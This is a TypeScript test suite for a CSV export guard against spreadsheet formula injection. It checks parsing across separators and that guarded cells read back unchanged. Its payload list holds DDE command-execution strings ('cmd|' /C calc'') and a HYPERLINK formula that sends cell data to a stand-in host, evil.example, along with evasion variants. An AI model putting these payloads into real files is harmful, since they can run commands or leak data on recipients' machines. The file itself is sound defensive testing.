import assert from 'node:assert/strict';
import {describe, it} from 'node:test';
import fc from 'fast-check';
import Papa from 'papaparse';
import {headOf, linesOf} from './csv.ts';
import {guard, unguard} from './formula-guard.ts';

/**
 * Cells that a program reads from a file with the list separator `separator`. A quote counts at the beginning of a cell only; text after
 * the closing one belongs to the cell unchanged. Excel and Calc do the same.
 */
const cellsOf = (file: string, separator: string): string[] => {
  const cells = [''];
  let quotes: 'none' | 'open' | 'closed' = 'none';
  for (let at = 0; at < file.length; at += 1) {
    const sign = file[at]!;
    if (quotes === 'open') {
      if (sign === '"' && file[at + 1] !== '"') quotes = 'closed';
      else cells.push(`${cells.pop()}${sign}`);
      if (sign === '"' && quotes === 'open') at += 1;
    } else if (sign === separator || sign === '\r' || sign === '\n') {
      cells.push('');
      quotes = 'none';
    } else if (sign === '"' && quotes === 'none' && cells.at(-1) === '') quotes = 'open';
    else cells.push(`${cells.pop()}${sign}`);
  }
  return cells;
};

/**
 * Text that a program interprets as a formula: it drops white space, marks and controls before the sign, and knows the other forms of the
 * sign.
 */
const isFormula = (cell: string): boolean =>
  /^[=+\-@−]/.test(cell.replace(/^[\s\p{C}"]+/u, '').normalize('NFKC'));
/** True for a leading tab or line break, which programs drop that read the file once more. */
const isDropped = (cell: string): boolean => /^[\t\r\n\0]/.test(cell);

const formulasIn = (file: string): string[] =>
  [',', ';', '\t'].flatMap((separator) => cellsOf(file, separator).filter(isFormula));
const readBack = (file: string): string[][] =>
  Papa.parse<string[]>(file, {delimiter: ',', newline: '\r\n'}).data.map((row) => row.map(unguard));

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1',
];
const BEFORE = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\ufeff',
  '\u200b',
  '\u200e',
  '\u00a0',
  '\u3000',
  '\u00ad',
  '"',
  '""',
  '" ',
  "'",
  "''",
  ';',
  'x;',
  'x;"',
  'x\t',
  'x\n',
  'x\r\n',
  'x\n"',
  '\n\n',
  ';;',
  '\t\t',
];
const WIDE: Record<string, string[]> = {
  '=': ['＝', '﹦'],
  '+': ['＋', '﹢', '⁺', '₊', '﬩'],
  '-': ['－', '﹣', '−'],
  '@': ['＠', '﹫'],
};
const widths = (text: string): string[] => [
  text,
  ...(WIDE[text[0]!] ?? []).map((sign) => sign + text.slice(1)),
];
const hostile = PAYLOADS.flatMap(widths).flatMap((payload) =>
  BEFORE.flatMap((before) => [before + payload, `${before}${payload};y`, `${before}${payload}\ny`]),
);
const anyText = fc.string({
  unit: fc.oneof(
    fc.constantFrom(...'=+-@＝－"\';\t\r\n\0 ,a1', '\ufeff', '\u200b'),
    fc.string({minLength: 1, maxLength: 1, unit: 'binary'}),
  ),
  maxLength: 24,
});

describe('a cell of an export', () => {
  it('is no formula in a spreadsheet, with any text and any list separator', () => {
    for (const text of hostile) {
      const file = linesOf([
        [1, text, 'x'],
        [text, 2, text],
      ]);
      assert.deepEqual(formulasIn(file), [], JSON.stringify(text));
      assert.ok(!isDropped(guard(text)), JSON.stringify(text));
    }
    assert.ok(formulasIn(Papa.unparse([['x', 'a;"=1+1;b']])).length > 0);
  });

  it('is no formula for any text', () => {
    for (let code = 0; code <= 0xffff; code += 1)
      assert.deepEqual(
        formulasIn(linesOf([[1, `${String.fromCharCode(code)}1+1`]])),
        [],
        String(code),
      );
    fc.assert(
      fc.property(fc.array(fc.tuple(anyText, anyText), {minLength: 1, maxLength: 4}), (rows) => {
        assert.deepEqual(formulasIn(headOf(['a', 'b']) + linesOf(rows)), []);
      }),
      {numRuns: 2000},
    );
  });

  it('is restored once the guard is removed', () => {
    for (const text of hostile) assert.deepEqual(readBack(linesOf([[text, 'x']]))[0], [text, 'x']);
    fc.assert(
      fc.property(anyText, (text) => void assert.equal(unguard(guard(text)), text)),
      {numRuns: 2000},
    );
  });

  it('stays unchanged where no formula could begin', () => {
    for (const text of [
      '',
      'Rosa Lim',
      "O'Brien",
      "'quoted'",
      'a-b',
      'rosa@example.com',
      '1 + 1 = 2',
      'one; two',
      'A line\nand another',
    ])
      assert.equal(guard(text), text);
  });
});
